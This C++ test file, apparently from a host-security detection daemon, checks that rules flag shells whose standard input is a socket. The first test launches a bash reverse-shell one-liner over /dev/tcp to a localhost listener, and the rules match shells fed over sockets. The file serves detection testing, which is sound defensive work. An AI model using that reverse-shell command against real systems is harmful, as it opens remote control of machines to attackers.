// SPDX-License-Identifier: Apache-2.0
// The other end of standard input, live: shells that somebody else talks to over a socket, as the real daemon tells it.
#include <fmt/format.h>

#include <catch2/catch.hpp>

#include "tests/live/daemon.h"

namespace recipe::test {
namespace {

struct Shells {
  ScratchFolder folder;
  CommandResult ran;

  // What was told of process.stdin, of each detection of a shell whose condition holds.
  std::vector<nlohmann::json> watch(const std::string& condition, const std::string& python) {
    const std::string recipe = folder.write(
        "fed.recipe", fmt::format("recipe fed {{\n  title \"t\"\n  category execution\n  method m\n  importance high\n"
                                  "  attack [T1059]\n  on exec when process.name in [dash, bash, sh] and {}\n}}\n",
                                  condition));
    const std::string script = folder.write("script.py", python);
    ran = run_command(
        {kReciped, "watch", "--recipes", recipe, "--output", folder.path("out.jsonl"), "--", "/usr/bin/python3", script});
    std::vector<nlohmann::json> all;
    for (const auto& detection : detections_in(folder.read("out.jsonl"))) {
      all.push_back(detection["process"].value("stdin", nlohmann::json::object()));
    }
    return all;
  }
};

}  // namespace

TEST_CASE("a shell on a TCP connection tells who is at its other end, as of a reverse shell") {
  // The listener is python3, the shell is started as everybody does it by hand.
  Shells shells;
  const auto seen = shells.watch(
      "process.traits has stdin_socket and process.stdin.peer_address in [127.0.0.0/8] and process.stdin.peer_port >= 1024", R"(
import socket, subprocess
listener = socket.create_server(("127.0.0.1", 0))
port = listener.getsockname()[1]
print(port, flush=True)
victim = subprocess.Popen(["bash", "-c", f"exec bash --norc -i <>/dev/tcp/127.0.0.1/{port} 1>&0 2>&0"], close_fds=True)
there, _ = listener.accept()
import time
time.sleep(1)
there.sendall(b"exit\n")
victim.wait()
)");
  INFO(shells.ran.err);
  REQUIRE(seen.size() == 1);
  CHECK(seen[0]["peer_address"] == "127.0.0.1");
  CHECK(std::to_string(seen[0]["peer_port"].get<int>()) + "\n" == shells.ran.out);
  REQUIRE(seen[0]["peer_programs"].size() == 1);
  CHECK(seen[0]["peer_programs"][0].get<std::string>().starts_with("python3"));
}

TEST_CASE("a shell that a program feeds over a socketpair tells which, as of what node spawns") {
  Shells shells;
  const auto seen =
      shells.watch("process.traits has stdin_socket and any p in process.stdin.peer_programs: p like \"python3*\"", R"(
import socket, subprocess, time
near, far = socket.socketpair()
child = subprocess.Popen(["sh", "-s"], stdin=far, close_fds=True)
far.close()
time.sleep(1)
near.sendall(b"exit\n")
child.wait()
)");
  INFO(shells.ran.err);
  REQUIRE(seen.size() == 1);
  CHECK_FALSE(seen[0].contains("peer_address"));
  CHECK(seen[0]["peer_programs"][0].get<std::string>().starts_with("python3"));
}

TEST_CASE("a shell on a pipe has no peer") {
  Shells shells;
  const auto seen = shells.watch("process.traits has stdin_pipe and argv contains \"-s\"", R"(
import subprocess
subprocess.run(["sh", "-s"], input=b"sleep 0.3\nexit\n")
)");
  INFO(shells.ran.err);
  REQUIRE(seen.size() == 1);
  CHECK_FALSE(seen[0].contains("peer_programs"));
  CHECK_FALSE(seen[0].contains("peer_address"));
}

}  // namespace recipe::test
